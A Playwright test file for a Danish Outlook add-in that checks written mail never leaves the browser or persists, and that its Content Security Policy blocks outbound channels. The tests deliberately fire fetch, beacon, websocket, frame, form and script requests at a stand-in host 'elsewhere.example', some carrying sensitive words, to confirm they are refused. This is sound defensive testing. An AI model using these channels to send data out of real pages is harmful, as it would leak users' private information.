import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Page, Request } from 'playwright-core';
import { addInSite } from '../../simulator/server/outlook';
import { CONTENT_SECURITY_POLICY, responseHeaders } from '../../webpack/response-headers';
import type { Outlook } from './support/outlook';
import { addInOrigin, BUILDS, OUTLOOK, SHIPPED, Stage, type Staged } from './support/stage';

/** Nothing about a mail leaves the machine, and nothing of it stays: what the add-in asks for, says and keeps. */
jest.setTimeout(60_000);

const [AU] = SHIPPED as [Staged];
const BUILT = resolve(BUILDS, 'au');
const PAGES = ['taskpane.html', 'launchevent.html', 'help/da.html'];
const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/';
const MICROSOFT_AJAX = 'https://ajax.aspnetcdn.com/ajax/3.5/MicrosoftAjax.js';
const META = /<meta http-equiv="Content-Security-Policy" content="([^"]*)" \/>/;

/** The same build with the policy in one place only, and as a host sends it: only the real Outlook may show it. */
const BY_META = { ...AU, id: 'meta', policy: AU.id, addIn: addInOrigin(1), site: { ...AU.site, headers: {} } };
const BY_HEADER = {
  ...AU,
  id: 'header',
  policy: AU.id,
  addIn: addInOrigin(2),
  site: { ...AU.site, rewrite: (html: string) => html.replace(META, '') },
};
const HOSTED = {
  ...AU,
  id: 'hosted',
  policy: AU.id,
  addIn: addInOrigin(3),
  site: { ...addInSite(BUILT), headers: responseHeaders() },
};

let stage: Stage;

beforeAll(async () => {
  stage = await Stage.start([AU, BY_META, BY_HEADER, HOSTED]);
}, 180_000);

afterAll(() => stage.close());

/** What went astray in a window since this began to watch. */
interface Watch {
  /** Requests for anything but files of the add-in, of office.js and of Outlook's page, or carrying anything. */
  readonly requests: string[];
  /** Everything written to the console, by whomever. */
  readonly lines: string[];
}

function watch({ page }: Outlook): Watch {
  const requests: string[] = [];
  const lines: string[] = [];
  page.context().on('request', (request) => {
    if (!fetchesFile(request)) requests.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`);
  });
  page.on('websocket', (socket) => requests.push(socket.url()));
  page.on('console', (message) => lines.push(message.text()));
  return { requests, lines };
}

function fetchesFile(request: Request): boolean {
  const { origin, pathname, href, search } = new URL(request.url());
  const asks = ['GET', 'HEAD'].includes(request.method()) && request.postData() === null;
  if (origin === OUTLOOK) return asks && ['/', '/outlook.js', '/accounts.json'].includes(pathname);
  const ownFile = origin === AU.addIn && pathname !== '/' && existsSync(join(BUILT, pathname));
  return asks && search === '' && (ownFile || href === MICROSOFT_AJAX || href.startsWith(OFFICE_JS));
}

/** What the add-in's origin keeps in the browser; leaves the window at a file of it. */
async function kept(page: Page): Promise<{ session: Record<string, string>; rest: unknown[] }> {
  await page.goto(`${AU.addIn}/launchevent.js`);
  return page.evaluate(async () => ({
    session: { ...sessionStorage },
    rest: [
      ...Object.entries(localStorage),
      ...(await indexedDB.databases()),
      ...(await caches.keys()),
      ...(await navigator.serviceWorker.getRegistrations()),
      ...(document.cookie === '' ? [] : [document.cookie]),
    ],
  }));
}

/** By this office.js finds its host when a page of it loads anew: ids made up by Outlook, gone with the tab. */
const OF_OFFICE_JS = /^(hostInfoValue|_xdm_[0-9a-f-]+(xdmInfo|serializerVersion))$/;
const WORDS = /mathilde|bjerregaard|depression|280467|katrine|firma|workshoppen|forløb/i;

async function writeMail(outlook: Outlook): Promise<void> {
  await outlook.write({
    to: 'katrine@firma.example.dk',
    subject: 'Workshoppen',
    body: 'Mathilde Bjerregaard (cpr 280467-2187) er sygemeldt med en depression.',
  });
  await outlook.attach('Mathildes forløb.txt', 'Mathilde Bjerregaard har en depression.');
  await outlook.attach('Erklæring.pdf', readFileSync(resolve('test/attachments/fixtures/libreoffice-writer.pdf')));
}

describe('while a mail is written, checked, stopped, explained, marked and sent', () => {
  test('only files are asked for, nothing is written to the console, and nothing stays', async () => {
    const outlook = await stage.open({ account: 'au', language: 'da-DK' });
    const seen = watch(outlook);
    await outlook.page.reload();
    await outlook.button('New message').waitFor();
    await writeMail(outlook);
    await outlook.send();
    await outlook.alert.getByRole('button', { name: 'Se hvorfor' }).click();
    await outlook.pane.getByRole('heading', { name: 'Skal sendes sikkert' }).waitFor();
    await outlook.pane.getByRole('button', { name: 'Kontrollér nu' }).click();
    // Kept by Outlook, and not by the browser.
    await outlook.pane.getByRole('button', { name: 'Forstået' }).click();
    await outlook.pane.getByRole('button', { name: 'Send sikkert' }).click();
    await outlook.pane.getByRole('heading', { name: 'Bliver sendt sikkert' }).waitFor();
    await outlook.pressSendSikkert();
    await outlook.send();
    expect((await outlook.readSentItems())[0]?.headers['X-Send-Sikkert']).toBe('secure');
    expect(await outlook.troubles()).toEqual([]);
    expect(seen).toEqual({ requests: [], lines: [] });

    const { session, rest } = await kept(outlook.page);
    expect(rest).toEqual([]);
    expect(Object.keys(session).filter((key) => !OF_OFFICE_JS.test(key))).toEqual([]);
    expect(JSON.stringify(session)).not.toMatch(WORDS);
    await outlook.close();
  });

  test('what would go astray is seen: a request, a line, and a thing kept', async () => {
    const outlook = await stage.open({ account: 'au', language: 'da-DK' });
    const seen = watch(outlook);
    await outlook.page.evaluate(() => {
      void fetch('https://elsewhere.example/?depression').catch(() => undefined);
      void fetch('/accounts.json', { method: 'POST', body: 'depression' });
      console.debug('depression');
    });
    await outlook.page.waitForTimeout(500);
    expect(seen.requests).toHaveLength(2);
    expect(seen.lines).toContain('depression');
    await kept(outlook.page);
    await outlook.page.evaluate(() => {
      sessionStorage.setItem('mail', 'depression');
      localStorage.setItem('mail', 'depression');
    });
    const { session, rest } = await kept(outlook.page);
    expect(Object.keys(session).filter((key) => !OF_OFFICE_JS.test(key))).toEqual(['mail']);
    expect(rest).toEqual([['mail', 'depression']]);
    await outlook.close();
  });
});

test.each(PAGES)(
  '%s states its policy before anything that it loads, and holds no script, style or handler itself',
  (page) => {
    const html = readFileSync(join(BUILT, page), 'utf8');
    expect(META.exec(html)?.[1]).toBe(CONTENT_SECURITY_POLICY);
    expect(html.search(META)).toBeLessThan(html.search(/<(?:script|link)/));
    expect(html).not.toMatch(/<script(?![^>]* src=)|<style|\son\w+=|\sstyle=|javascript:/);
  },
);

const AWAY = 'https://elsewhere.example/';

/** Ways out of a page, and the directive that closes each. */
const WAYS: [way: string, take: (away: string) => void, directive: string][] = [
  ['fetch', (away) => void fetch(away).catch(() => undefined), 'connect-src'],
  ['a beacon', (away) => void navigator.sendBeacon(away, 'x'), 'connect-src'],
  ['a web socket', (away) => void new WebSocket(away.replace('https', 'wss')), 'connect-src'],
  ['an event source', (away) => void new EventSource(away), 'connect-src'],
  ['its own origin', () => void fetch('launchevent.js').catch(() => undefined), 'connect-src'],
  ['a picture', (away) => void (new Image().src = away), 'img-src'],
  ['a font', (away) => void new FontFace('f', `url(${away})`).load().catch(() => undefined), 'font-src'],
  ['a frame', (away) => append('iframe', { src: away }), 'frame-src'],
  ['a form', (away) => append('form', { action: away }, (form) => (form as HTMLFormElement).submit()), 'form-action'],
  ['another base', (away) => append('base', { href: away }), 'base-uri'],
  ['a script from elsewhere', (away) => append('script', { src: away }), 'script-src-elem'],
  [
    "another script of Microsoft's host",
    () => append('script', { src: 'https://ajax.aspnetcdn.com/ajax/jQuery/jquery-3.6.0.min.js' }),
    'script-src-elem',
  ],
  ['an inline script', () => append('script', { textContent: 'void 0' }), 'script-src-elem'],
  ['an inline handler', () => document.body.setAttribute('onclick', 'void 0'), 'script-src-attr'],
  // Later, since what the test itself evaluates is exempt.
  ['eval', () => void setTimeout(() => (0, eval)('void 0')), 'script-src'],
  ['a worker', () => void new Worker('data:,'), 'worker-src'],
  ['a style from elsewhere', (away) => append('link', { rel: 'stylesheet', href: away }), 'style-src-elem'],
  ['a style element', () => append('style', { textContent: 'p{}' }), 'style-src-elem'],
  ['a style attribute', () => document.body.setAttribute('style', 'color:red'), 'style-src-attr'],
];

/** Declared for the functions above, which run in the page; `prepare` puts it there. */
declare function append(tag: string, properties: object, then?: (element: HTMLElement) => void): void;

function prepare(): void {
  const page = window as unknown as { append: typeof append; refused: string[] };
  page.refused = [];
  document.addEventListener('securitypolicyviolation', (event) => page.refused.push(event.effectiveDirective));
  page.append = (tag, properties, then) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.head.append(element);
    then?.(element);
  };
}

describe.each([
  ['the meta tag', BY_META],
  ['the response header', BY_HEADER],
])('%s alone closes', (_where, { addIn }) => {
  test.each(PAGES)('every way out of %s', async (file) => {
    const { page } = await stage.open();
    await page.goto(`${addIn}/${file}`);
    await page.evaluate(prepare);
    for (const [way, take, directive] of WAYS) {
      await page.evaluate(take, AWAY).catch(() => undefined);
      const refused = await page.evaluate(async () => {
        await new Promise((done) => setTimeout(done, 50));
        return (window as unknown as { refused: string[] }).refused.splice(0);
      });
      expect([way, ...refused]).toEqual([way, directive]);
    }
    await page.context().close();
  });
});

test('as hosted, no page but Outlook shows the pane', async () => {
  const { page } = await stage.open();
  const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.evaluate((src) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src }));
  }, `${HOSTED.addIn}/taskpane.html`);
  expect((await refusal).text()).toContain('https://outlook.office.com');
  await page.context().close();
});
